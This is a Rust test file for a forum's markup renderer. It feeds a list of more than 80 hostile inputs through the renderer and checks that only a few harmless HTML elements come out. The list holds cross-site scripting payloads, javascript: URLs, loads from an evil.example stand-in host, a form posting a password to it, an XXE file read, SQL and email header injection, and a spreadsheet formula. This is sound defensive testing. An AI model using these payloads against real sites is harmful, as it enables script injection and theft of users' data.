//! T1.3 and T1.5: whatever somebody types, the page gets a handful of harmless elements and all of the words.

use std::cell::RefCell;

use forum::{Body, markup};
use html5ever::tendril::StrTendril;
use html5ever::tokenizer::{
    BufferQueue, Tag, TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts,
};

/// What a browser's own tokenizer finds in a piece of markup.
#[derive(Default)]
struct Seen {
    tags: RefCell<Vec<Tag>>,
    words: RefCell<String>,
    other: RefCell<Vec<String>>,
}

impl TokenSink for Seen {
    type Handle = ();

    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
        match token {
            Token::TagToken(tag) => self.tags.borrow_mut().push(tag),
            Token::CharacterTokens(words) => self.words.borrow_mut().push_str(&words),
            Token::EOFToken => {}
            other => self.other.borrow_mut().push(format!("{other:?}")),
        }
        TokenSinkResult::Continue
    }
}

fn seen(html: &str) -> Seen {
    let input = BufferQueue::default();
    input.push_back(StrTendril::from(html));
    let tokenizer = Tokenizer::new(Seen::default(), TokenizerOpts::default());
    let _ = tokenizer.feed(&input);
    tokenizer.end();
    tokenizer.sink
}

#[track_caller]
fn check(text: &str) {
    let Ok(body) = Body::parse(text) else { return };
    let html = markup::html(&body);
    let seen = seen(&html);
    assert!(seen.other.borrow().is_empty(), "{html}: {:?}", seen.other.borrow());
    for tag in seen.tags.borrow().iter() {
        assert!(matches!(&*tag.name, "p" | "br" | "blockquote" | "em" | "a"), "{html}");
        for attribute in &tag.attrs {
            match &*attribute.name.local {
                "href" => assert!(
                    attribute.value.starts_with("http://") || attribute.value.starts_with("https://"),
                    "{html}"
                ),
                "rel" => assert_eq!(&*attribute.value, "nofollow ugc noopener"),
                other => panic!("{other} in {html}"),
            }
        }
        let is_link = &*tag.name == "a" && tag.kind == TagKind::StartTag;
        assert_eq!(tag.attrs.len(), if is_link { 2 } else { 0 }, "{html}");
    }
    // Two stars around words are emphasis.
    let words = |text: &str| text.chars().filter(|c| !c.is_whitespace() && *c != '*').collect::<String>();
    let kept = body.as_str().lines().map(|line| line.strip_prefix('>').unwrap_or(line)).collect::<String>();
    assert_eq!(words(&seen.words.borrow()), words(&kept), "nothing may get lost");
}

const HOSTILE: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\u{0c}>alert(1)</script\n>",
    "<img src=x onerror=alert(1)>",
    "<img src=`x` onerror=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg/onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<iframe src=javascript:alert(1)>",
    "<object data=\"data:text/html,<script>alert(1)</script>\">",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src=\"</style><img src=x onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title></title><script>alert(1)</script>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<div style=\"position:fixed;inset:0\">x</div>",
    "<div id=main name=location>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"java\tscript:alert(1)\">x</a>",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "https://a.example/\"onmouseover=\"alert(1)",
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/<script>alert(1)</script>",
    "https://a.example/?q=\"><script>alert(1)</script>",
    "https://a.example/`onmouseover=alert(1)`",
    "https://a.example/&quot;onclick=alert(1)",
    "https://a.example/&#34;onclick=alert(1)",
    "https://a.example/%22%3E%3Cscript%3E",
    "https://javascript:alert(1)@a.example/",
    "https://a.example:javascript/",
    "http://http://a.example",
    "https://a.example\\@evil.example",
    "https://a.example/\u{202e}gpj.exe",
    "> <script>alert(1)</script>\n> <b>",
    ">><img src=x onerror=alert(1)>",
    "<!-- --><img src=x onerror=alert(1)>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;",
    "&ltscript&gt",
    "\u{ff1c}script\u{ff1e}alert(1)\u{ff1c}/script\u{ff1e}",
    "＜img src=x onerror=alert(1)＞",
    "{{ 7 * 7 }} {% raw %} ${7*7} #{7*7} <%= 7*7 %>",
    "</p></article><h1>Sperre aufgehoben</h1>",
    "</blockquote></li></ul></main>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "\u{2028}<script>\u{2029}alert(1)</script>",
    "<part-of><a href=/account>x</a></part-of>",
    "<read-aloud src=//evil.example/>",
    "'; drop table comments; --",
    "=HYPERLINK(\"http://evil.example\")",
    "Bcc: alle@evil.example\r\nSubject: x",
    "\u{feff}<script>alert(1)</script>",
    "<\u{200b}script>alert(1)</script>",
    "<genfile \"x\">\\pause=1\\",
];

#[test]
fn t1_3_a_hostile_text_is_only_words() {
    assert!(HOSTILE.len() >= 60);
    for text in HOSTILE {
        check(text);
        check(&format!("Hallo {text} Welt"));
        check(&format!("> {text}\n{text}\n\n{text}"));
        check(&format!("https://a.example/{text}"));
    }
    // Any two, one after the other: what one opens, the other might close.
    for first in HOSTILE {
        for second in HOSTILE {
            check(&format!("{first}{second}"));
        }
    }
}
